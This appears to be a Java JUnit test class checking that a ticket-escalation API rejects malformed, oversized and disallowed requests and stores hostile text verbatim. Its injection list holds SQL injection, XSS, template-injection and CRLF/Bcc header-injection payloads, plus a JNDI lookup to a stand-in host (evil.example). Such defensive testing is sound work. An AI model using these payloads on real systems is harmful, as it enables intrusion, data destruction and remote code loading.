package dev.escalation.app.fault;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.icegreen.greenmail.util.GreenMail;
import dev.escalation.app.e2e.TicketApi;
import dev.escalation.app.embedded.EmbeddedRuntime;
import dev.escalation.workers.testsupport.EmbeddedMailServer;
import jakarta.mail.internet.MimeMessage;
import java.lang.reflect.Field;
import java.math.BigDecimal;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Malformed and hostile requests to every endpoint: each gets a 4xx problem
 * ({@code application/problem+json} with a {@code detail} or {@code errors}), never a 5xx, and
 * changes nothing. Text that is merely unusual (SQL, HTML, control characters) is valid text: it is
 * stored verbatim and comes back as JSON.
 */
@FaultAppTest
class HostileInputTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String HUGE = "x".repeat(2 * 1024 * 1024);
  private static final List<String> INJECTIONS = List.of(
      "'); DROP TABLE ticket; --",
      "1' OR '1'='1",
      "\" OR \"\"=\"",
      "Robert'); DELETE FROM audit_event WHERE ('1'='1",
      "<script>alert('x')</script>",
      "<img src=x onerror=\"alert(1)\">",
      "</textarea><svg/onload=alert(1)>",
      "${jndi:ldap://evil.example/a} #{7*7} {{7*7}}",
      "back\\slash \"quoted\" \u00e9\u6f22\u5b57 \ud83d\ude80 tab\tend",
      "line one\r\nX-Injected: yes\r\n\r\nline three");

  @LocalServerPort int port;
  @Autowired JdbcClient jdbc;
  RawHttp http;
  TicketApi api;
  Ledger ledger;

  @BeforeEach
  void clients() {
    http = new RawHttp(port);
    api = new TicketApi(port);
    ledger = new Ledger(jdbc);
  }

  /** A POST endpoint: a valid body, and which of its fields are text, enums, optional. */
  record Endpoint(String path, Map<String, Object> valid, List<String> text, List<String> enums, Set<String> optional) {}

  private static List<Endpoint> postEndpoints(long id) {
    String t = "/api/tickets/" + id;
    return List.of(
        new Endpoint("/api/tickets", TicketApi.ticketRequest("P1", "BILLING", "hostile@example.com"),
            List.of("customer.name", "customer.email", "customer.language", "channel", "subject", "description"),
            List.of("priority", "category"), Set.of("customer.vip", "customer.annualRevenue")),
        new Endpoint(t + "/attempts", Map.of("note", "Checked the logs"), List.of("note"), List.of(), Set.of()),
        new Endpoint(t + "/escalations", Map.of("type", "FUNCTIONAL", "summary", "s", "attempted", "a", "need", "n",
            "overrideReason", "r"), List.of("summary", "attempted", "need", "overrideReason"), List.of("type"), Set.of("overrideReason")),
        new Endpoint(t + "/waiting-on-customer", Map.of("question", "Which card?"), List.of("question"), List.of(), Set.of()),
        new Endpoint(t + "/customer-replies", Map.of("message", "Visa"), List.of("message"), List.of(), Set.of()),
        new Endpoint(t + "/resolution", Map.of("summary", "Fixed"), List.of("summary"), List.of(), Set.of()),
        new Endpoint(t + "/reopen", Map.of("reason", "Again"), List.of("reason"), List.of(), Set.of()),
        new Endpoint("/api/dev/clock", Map.of("advance", "PT1M"), List.of("advance"), List.of(), Set.of()));
  }

  private static List<String> getPaths(String id) {
    String t = "/api/tickets/" + id;
    return List.of(t, t + "/timeline", t + "/messages", t + "/attempts", t + "/handoff-notes", t + "/escalations");
  }

  @Test
  void malformedBodiesWrongTypesMissingFieldsAndHugeValuesAreProblemsOnEveryPostAndChangeNothing() {
    long id = quietTicket("malformed@example.com");
    List<RawHttp.Response> responses = new ArrayList<>();
    unchanged(id, responses, () -> {
      for (Endpoint e : postEndpoints(id)) {
        // whole bodies that are not the request
        for (String body : List.of("", "null", "{", "}", "[]", "[{}]", "\"text\"", "42", "true", "{}", "{\"unknown\": 1}",
            "{'single': 'quotes'}", "{\"a\":" + "[".repeat(5000) + "]".repeat(5000) + "}", "\u0000\u0001", "\ufeff{}")) {
          responses.add(http.postJson(e.path(), body));
        }
        responses.add(http.send("POST", e.path(), "application/json", null));
        // every field: missing, null, blank, of the wrong type, far too long
        for (String field : fields(e)) {
          boolean optional = e.optional().contains(field);
          List<Object> wrong = new ArrayList<>(List.of(Map.of("nested", true), List.of("a", "b")));
          if (!optional) {
            wrong.add(null);
            wrong.add("");
            wrong.add("   ");
          }
          if (e.text().contains(field)) {
            wrong.add(HUGE);
          }
          if (e.enums().contains(field)) {
            wrong.addAll(List.of("P9", "SIDEWAYS", "p1", "'; DROP TABLE ticket; --", 99, -1));
          }
          if (field.equals("customer.vip")) {
            wrong.addAll(List.of("maybe", 2.5));
          }
          if (field.equals("customer.annualRevenue")) {
            wrong.addAll(List.of("lots", -1, "1e400", new BigDecimal("1" + "0".repeat(1500))));
          }
          if (field.equals("customer.email")) {
            wrong.addAll(List.of("not-an-email", "a@b@c", "<script>@example.com", "x@example.com\r\nBcc: y@example.com"));
          }
          if (field.equals("customer.language")) {
            wrong.addAll(List.of("english", "en'; --"));
          }
          if (field.equals("channel")) {
            wrong.addAll(List.of("carrier-pigeon", "email'; DROP TABLE ticket; --", "email\nchat"));
          }
          if (field.equals("advance")) {
            wrong.addAll(List.of("soon", "-PT5M", "PT0S", "P-1D", "PT2562047788015215H", "P106751991167300D", 5));
          }
          for (Object value : wrong) {
            responses.add(http.postJson(e.path(), RawHttp.json(with(e.valid(), field, value))));
          }
          if (!optional) {
            responses.add(http.postJson(e.path(), RawHttp.json(without(e.valid(), field))));
          }
        }
        if (e.path().equals("/api/tickets")) {
          responses.add(http.postJson(e.path(), RawHttp.json(with(e.valid(), "customer", "Dana"))));
          responses.add(http.postJson(e.path(), RawHttp.json(with(e.valid(), "customer", List.of()))));
          responses.add(http.postJson(e.path(), RawHttp.json(with(e.valid(), "customer", null))));
        }
        // the right JSON under the wrong content type, or none
        String valid = RawHttp.json(e.valid());
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
            "text/html", "application/json;charset=no-such-charset", "*/*", "garbage")) {
          responses.add(http.send("POST", e.path(), type, valid));
        }
        responses.add(http.send("POST", e.path(), null, valid));
        responses.add(http.send("POST", e.path(), "text/plain", HUGE.substring(0, 1024 * 1024)));
      }
    });
    assertThat(responses).filteredOn(r -> r.request().contains("[text/plain]")).allSatisfy(r -> assertThat(r.status()).isEqualTo(415));
  }

  @Test
  void invalidIdsOnEveryEndpointAreProblems() {
    long id = quietTicket("ids@example.com");
    List<RawHttp.Response> responses = new ArrayList<>();
    unchanged(id, responses, () -> {
      for (String bad : List.of("abc", "-1", "0", "99999999999999999999", "1.5", "1e3", "0x1", "%231", "%201", "NaN", "null",
          "1%3B%20DROP%20TABLE%20ticket", "%27%20OR%20%271%27%3D%271", "%3Cscript%3E", "%00", "-9223372036854775809")) {
        getPaths(bad).forEach(path -> responses.add(http.get(path)));
        for (Endpoint e : postEndpoints(0)) {
          if (e.path().startsWith("/api/tickets/0/")) {
            responses.add(http.postJson(e.path().replace("/api/tickets/0/", "/api/tickets/" + bad + "/"), RawHttp.json(e.valid())));
          }
        }
      }
      for (String bad : List.of("abc", "-1", "+1", "01", "99999999999999999999", "1.5", "1e3", "0x1", "%231", "%27%20OR%201%3D1",
          "%3Cscript%3E")) {
        responses.add(http.get("/api/notifications?ticketId=" + bad));
      }
    });
    // 0 is a well-formed id that names no ticket; -1 is no id at all (ids have no sign)
    assertThat(responses).filteredOn(r -> r.request().contains("/0/") || r.request().endsWith("/0"))
        .isNotEmpty().allSatisfy(r -> assertThat(r.status()).isEqualTo(404));
    assertThat(responses).filteredOn(r -> r.request().contains("/-1/") || r.request().endsWith("/-1"))
        .isNotEmpty().allSatisfy(r -> assertThat(r.status()).isEqualTo(400));
    // a filter that matches nothing is an empty list, not an error
    RawHttp.Response none = http.get("/api/notifications?ticketId=0");
    assertThat(none.status()).isEqualTo(200);
    assertThat(none.json().isArray()).isTrue();
    assertThat(none.json()).isEmpty();
  }

  @Test
  void otherMethodsAndUnknownPathsAreProblems() {
    long id = quietTicket("methods@example.com");
    List<RawHttp.Response> responses = new ArrayList<>();
    unchanged(id, responses, () -> {
      for (String path : getPaths(String.valueOf(id))) {
        responses.add(http.send("DELETE", path, null, null));
        responses.add(http.send("PUT", path, "application/json", "{}"));
        responses.add(http.send("PATCH", path, "application/json", "{}"));
      }
      responses.add(http.send("GET", "/api/tickets/" + id + "/resolution", null, null));
      responses.add(http.send("GET", "/api/dev/clock", null, null));
      responses.add(http.send("DELETE", "/api/notifications", null, null));
      responses.add(http.get("/api/tickets/" + id + "/no-such-thing"));
      responses.add(http.postJson("/api/tickets/" + id + "/no-such-action", "{}"));
    });
  }

  @Test
  void actionsTheTicketsStateDoesNotAllowAreConflictsAndChangeNothing() {
    long id = quietTicket("states@example.com");
    String t = "/api/tickets/" + id;
    Map<String, String> bodies = Map.of(
        "/attempts", RawHttp.json(Map.of("note", "n")),
        "/escalations", RawHttp.json(Map.of("type", "FUNCTIONAL", "summary", "s", "attempted", "a", "need", "n", "overrideReason", "r")),
        "/waiting-on-customer", RawHttp.json(Map.of("question", "q")),
        "/resolution", RawHttp.json(Map.of("summary", "s")),
        "/reopen", RawHttp.json(Map.of("reason", "r")));
    List<RawHttp.Response> responses = new ArrayList<>();

    // OPEN: a reopen is not possible; an escalation without attempts or override breaks T8
    unchanged(id, responses, () -> {
      responses.add(http.postJson(t + "/reopen", bodies.get("/reopen")));
      responses.add(http.postJson(t + "/escalations", RawHttp.json(Map.of("type", "FUNCTIONAL", "summary", "s", "attempted", "a", "need", "n"))));
    });
    assertThat(responses.get(0).status()).isEqualTo(409);
    assertThat(responses.get(1).status()).isEqualTo(422);
    assertThat(responses.get(1).json().get("rule").asText()).isEqualTo("T8");

    // WAITING_ON_CUSTOMER: only the customer's reply moves it on
    assertThat(http.postJson(t + "/waiting-on-customer", bodies.get("/waiting-on-customer")).status()).isEqualTo(202);
    await().atMost(Duration.ofSeconds(20)).until(() -> ledger.audits(id, "WAITING_ON_CUSTOMER") == 1 && allSent(id));
    List<RawHttp.Response> waiting = new ArrayList<>();
    unchanged(id, waiting, () -> bodies.forEach((action, body) -> waiting.add(http.postJson(t + action, body))));
    assertThat(waiting).allSatisfy(r -> assertThat(r.status()).as(r.toString()).isEqualTo(409));

    // RESOLVED: only a reopen (or the customer's reply) moves it on
    assertThat(http.postJson(t + "/customer-replies", RawHttp.json(Map.of("message", "Visa"))).status()).isEqualTo(202);
    await().atMost(Duration.ofSeconds(20)).until(() -> "RUNNING".equals(api.ticket(id).get("responseClock").asText()) && allSent(id));
    assertThat(http.postJson(t + "/resolution", bodies.get("/resolution")).status()).isEqualTo(202);
    await().atMost(Duration.ofSeconds(20)).until(() -> ledger.audits(id, "RESOLVED") == 1 && allSent(id));
    List<RawHttp.Response> resolved = new ArrayList<>();
    unchanged(id, resolved, () -> bodies.forEach((action, body) -> {
      if (!action.equals("/reopen")) {
        resolved.add(http.postJson(t + action, body));
      }
    }));
    assertThat(resolved).allSatisfy(r -> assertThat(r.status()).as(r.toString()).isEqualTo(409));

    // the top tier: no escalation above it
    assertThat(http.postJson(t + "/reopen", bodies.get("/reopen")).status()).isEqualTo(202);
    await().atMost(Duration.ofSeconds(20)).until(() -> ledger.audits(id, "REOPENED") == 1 && allSent(id)
        && "RUNNING".equals(api.ticket(id).get("responseClock").asText()));
    assertThat(http.postJson(t + "/escalations", RawHttp.json(Map.of("type", "HIERARCHICAL", "summary", "s", "attempted", "a",
        "need", "n", "overrideReason", "r"))).status()).isEqualTo(202);
    // escalating ends with the notice to the customer (no page for a P3): after it the process waits for the owner
    await().atMost(Duration.ofSeconds(30)).until(() -> api.ticket(id).get("tier").asInt() == 3 && ledger.escalations(id) == 1
        && ledger.notifications(id, "ESCALATION_NOTICE") == 1 && allSent(id));
    List<RawHttp.Response> top = new ArrayList<>();
    unchanged(id, top, () -> top.add(http.postJson(t + "/escalations", bodies.get("/escalations"))));
    assertThat(top).singleElement().satisfies(r -> {
      assertThat(r.status()).isEqualTo(409);
      assertThat(r.json().get("detail").asText()).contains("highest tier");
    });
  }

  @Test
  void injectionStringsInEveryTextFieldAreStoredVerbatimAndComeBackAsJson() {
    Map<Long, String> tickets = new LinkedHashMap<>();
    for (String evil : INJECTIONS) {
      Map<String, Object> request = new LinkedHashMap<>(TicketApi.ticketRequest("P3", "TECHNICAL", "o'brien+tag@example.com"));
      request.put("customer", Map.of("name", evil, "email", "o'brien+tag@example.com", "language", "en", "vip", false));
      request.put("subject", evil);
      request.put("description", evil + " (description)");
      RawHttp.Response created = http.postJson("/api/tickets", RawHttp.json(request));
      assertThat(created.status()).as(created.toString()).isEqualTo(201);
      assertThat(created.contentType()).startsWith("application/json");
      assertThat(created.json().get("subject").asText()).isEqualTo(evil);
      assertThat(created.json().get("customer").get("name").asText()).isEqualTo(evil);
      tickets.put(created.json().get("id").asLong(), evil);
    }
    await().atMost(Duration.ofSeconds(30)).until(() -> tickets.keySet().stream()
        .allMatch(id -> "RUNNING".equals(api.ticket(id).get("responseClock").asText())));
    tickets.forEach((id, evil) -> {
      accepted(http.postJson("/api/tickets/" + id + "/attempts", RawHttp.json(Map.of("note", evil + " (note)"))));
      accepted(http.postJson("/api/tickets/" + id + "/waiting-on-customer", RawHttp.json(Map.of("question", evil + " (question)"))));
    });
    await().atMost(Duration.ofSeconds(30)).until(() -> tickets.keySet().stream()
        .allMatch(id -> "PAUSED".equals(api.ticket(id).get("resolutionClock").asText())));
    tickets.forEach((id, evil) ->
        accepted(http.postJson("/api/tickets/" + id + "/customer-replies", RawHttp.json(Map.of("message", evil + " (reply)")))));
    await().atMost(Duration.ofSeconds(30)).until(() -> tickets.keySet().stream().allMatch(id -> "OPEN".equals(ledger.status(id))
        && "RUNNING".equals(api.ticket(id).get("resolutionClock").asText())));
    tickets.forEach((id, evil) -> accepted(http.postJson("/api/tickets/" + id + "/escalations", RawHttp.json(Map.of(
        "type", "FUNCTIONAL", "summary", evil + " (summary)", "attempted", evil + " (attempted)", "need", evil + " (need)",
        "overrideReason", evil + " (override)")))));

    tickets.forEach((id, evil) -> {
      String t = "/api/tickets/" + id;
      // stored verbatim in the ledger ...
      assertThat(jdbc.sql("SELECT subject FROM ticket WHERE id = ?").param(id).query(String.class).single()).isEqualTo(evil);
      assertThat(jdbc.sql("SELECT customer_name FROM ticket WHERE id = ?").param(id).query(String.class).single()).isEqualTo(evil);
      assertThat(jdbc.sql("SELECT description FROM ticket WHERE id = ?").param(id).query(String.class).single()).isEqualTo(evil + " (description)");
      assertThat(jdbc.sql("SELECT note FROM resolution_attempt WHERE ticket_id = ?").param(id).query(String.class).list())
          .containsExactly(evil + " (note)");
      // ... and returned as JSON strings that decode to exactly what was sent
      assertThat(texts(t + "/attempts", "note")).containsExactly(evil + " (note)");
      assertThat(texts(t + "/messages", "body")).containsExactly(evil + " (question)", evil + " (reply)");
      JsonNode note = json(t + "/handoff-notes").get(0);
      assertThat(note.get("summary").asText()).isEqualTo(evil + " (summary)");
      assertThat(note.get("attempted").asText()).isEqualTo(evil + " (attempted)");
      assertThat(note.get("need").asText()).isEqualTo(evil + " (need)");
      assertThat(note.get("overrideReason").asText()).isEqualTo(evil + " (override)");
      assertThat(texts(t + "/timeline", "detail")).contains(evil + " (reply)").anySatisfy(d -> assertThat(d).endsWith(": " + evil));
      RawHttp.Response ticket = http.get(t);
      assertThat(ticket.contentType()).startsWith("application/json");
      assertThat(ticket.json().get("subject").asText()).isEqualTo(evil);
      if (evil.contains("\"")) {
        assertThat(ticket.text()).contains("\\\"").doesNotContain("\"subject\":\"" + evil + "\"");
      }
      if (evil.contains("\n")) {
        assertThat(ticket.text()).contains("\\r\\n").doesNotContain("\r\n");
      }
    });
    // mails carry the texts as text: a line break in a name (the customer's To) or a subject (the owner's mail) starts
    // no header of its own
    await().atMost(Duration.ofSeconds(30)).until(() -> tickets.keySet().stream().allMatch(id -> jdbc.sql(
        "SELECT COUNT(*) FROM notification WHERE ticket_id = ? AND kind IN ('ACKNOWLEDGEMENT', 'OWNER_ASSIGNED') AND status = 'SENT'")
        .param(id).query(Long.class).single() >= 2));
    assertThat(receivedMails()).isNotEmpty().allSatisfy(mail -> assertThat(mail.getHeader("X-Injected")).isNull())
        .anySatisfy(mail -> assertThat(mail.getSubject()).contains("line one").contains("X-Injected: yes"));
    // the tables the injections name are all still there
    assertThat(ledger.count("ticket")).isPositive();
    assertThat(ledger.count("audit_event")).isPositive();
  }

  @Test
  void theLongestValidTextsAreAcceptedAndStoredWhole() {
    String cjk = "\u6f22".repeat(20_000); // 3 bytes each in UTF-8: 60 000 bytes, the most a description can be
    Map<String, Object> request = new LinkedHashMap<>(TicketApi.ticketRequest("P3", "TECHNICAL", "longest@example.com"));
    request.put("subject", "\ud83d\ude80".repeat(100)); // 200 UTF-16 units, 100 four-byte characters
    request.put("description", cjk);
    RawHttp.Response created = http.postJson("/api/tickets", RawHttp.json(request));
    assertThat(created.status()).as(created.toString()).isEqualTo(201);
    long id = created.json().get("id").asLong();
    assertThat(jdbc.sql("SELECT description FROM ticket WHERE id = ?").param(id).query(String.class).single()).isEqualTo(cjk);
    assertThat(jdbc.sql("SELECT subject FROM ticket WHERE id = ?").param(id).query(String.class).single()).isEqualTo("\ud83d\ude80".repeat(100));
    await().atMost(Duration.ofSeconds(20)).until(() -> "RUNNING".equals(api.ticket(id).get("responseClock").asText()));
    accepted(http.postJson("/api/tickets/" + id + "/attempts", RawHttp.json(Map.of("note", "\u00e9".repeat(5_000)))));
    accepted(http.postJson("/api/tickets/" + id + "/customer-replies", RawHttp.json(Map.of("message", "\u6f22".repeat(20_000)))));
    assertThat(texts("/api/tickets/" + id + "/messages", "body")).containsExactly("\u6f22".repeat(20_000));
  }

  // ---------------------------------------------------------------------------------------------

  /** The mails as the local SMTP server received them, headers and all. */
  private static List<MimeMessage> receivedMails() {
    try {
      Field server = EmbeddedMailServer.class.getDeclaredField("greenMail");
      server.setAccessible(true);
      return List.of(((GreenMail) server.get(EmbeddedRuntime.mail())).getReceivedMessages());
    } catch (ReflectiveOperationException e) {
      throw new IllegalStateException(e);
    }
  }

  private static void isRejectedAsProblem(RawHttp.Response r) {
    assertThat(r.status()).as("status of %s", r).isBetween(400, 499);
    assertThat(r.isProblem()).as("problem body of %s", r).isTrue();
  }

  private static void accepted(RawHttp.Response r) {
    assertThat(r.status()).as(r.toString()).isEqualTo(202);
  }

  private JsonNode json(String path) {
    RawHttp.Response r = http.get(path);
    assertThat(r.status()).as(r.toString()).isEqualTo(200);
    assertThat(r.contentType()).startsWith("application/json");
    return r.json();
  }

  private List<String> texts(String path, String field) {
    List<String> values = new ArrayList<>();
    json(path).forEach(n -> values.add(n.get(field).asText()));
    return values;
  }

  /** An open ticket with its owner, clocks and first mails done: nothing changes it until someone acts. */
  private long quietTicket(String email) {
    long id = api.open("P3", "BILLING", email);
    await().atMost(Duration.ofSeconds(30)).until(() -> "RUNNING".equals(api.ticket(id).get("responseClock").asText())
        && api.notifications(id, "ACKNOWLEDGEMENT").size() == 1 && allSent(id));
    return id;
  }

  private boolean allSent(long id) {
    return ledger.allSent(id);
  }

  /**
   * Runs the requests, which add their responses to {@code responses}; checks that each was
   * rejected with a problem, and that neither the ticket nor anything only the API writes changed.
   */
  private void unchanged(long id, List<RawHttp.Response> responses, Runnable requests) {
    Map<String, Object> before = snapshot(id);
    int from = responses.size();
    requests.run();
    assertThat(responses.subList(from, responses.size())).isNotEmpty().allSatisfy(HostileInputTest::isRejectedAsProblem);
    assertThat(snapshot(id)).isEqualTo(before);
  }

  private Map<String, Object> snapshot(long id) {
    Map<String, Object> s = new LinkedHashMap<>();
    s.put("ticket", jdbc.sql("SELECT * FROM ticket WHERE id = ?").param(id).query().singleRow());
    s.put("tickets", ledger.count("ticket"));
    for (String table : List.of("audit_event", "notification", "ticket_message", "resolution_attempt", "handoff_note", "escalation")) {
      s.put(table + " of the ticket", jdbc.sql("SELECT COUNT(*) FROM " + table + " WHERE ticket_id = ?").param(id).query(Long.class).single());
    }
    // rows only the API writes, for any ticket
    s.put("ticket_message", ledger.count("ticket_message"));
    s.put("resolution_attempt", ledger.count("resolution_attempt"));
    s.put("manual handoff_note", jdbc.sql("SELECT COUNT(*) FROM handoff_note WHERE automatic = FALSE").query(Long.class).single());
    s.put("api audit_event", jdbc.sql("SELECT COUNT(*) FROM audit_event WHERE type IN ('TICKET_OPENED', 'ATTEMPT_RECORDED', "
        + "'RULE_OVERRIDDEN', 'CUSTOMER_REPLIED')").query(Long.class).single());
    s.put("clock", EmbeddedRuntime.clock().offset());
    return s;
  }

  private static List<String> fields(Endpoint e) {
    List<String> all = new ArrayList<>(e.text());
    all.addAll(e.enums());
    all.addAll(e.optional().stream().filter(f -> !all.contains(f)).sorted().toList());
    return all;
  }

  @SuppressWarnings("unchecked")
  private static Map<String, Object> copy(Map<String, Object> valid) {
    return JSON.convertValue(valid, LinkedHashMap.class);
  }

  private static Map<String, Object> with(Map<String, Object> valid, String field, Object value) {
    return edit(valid, field, (parent) -> parent.put(last(field), value));
  }

  private static Map<String, Object> without(Map<String, Object> valid, String field) {
    return edit(valid, field, (parent) -> parent.remove(last(field)));
  }

  @SuppressWarnings("unchecked")
  private static Map<String, Object> edit(Map<String, Object> valid, String field, Consumer<Map<String, Object>> change) {
    Map<String, Object> body = copy(valid);
    Map<String, Object> parent = field.contains(".") ? (Map<String, Object>) body.get(field.substring(0, field.indexOf('.'))) : body;
    change.accept(parent);
    return body;
  }

  private static String last(String field) {
    return field.substring(field.lastIndexOf('.') + 1);
  }
}
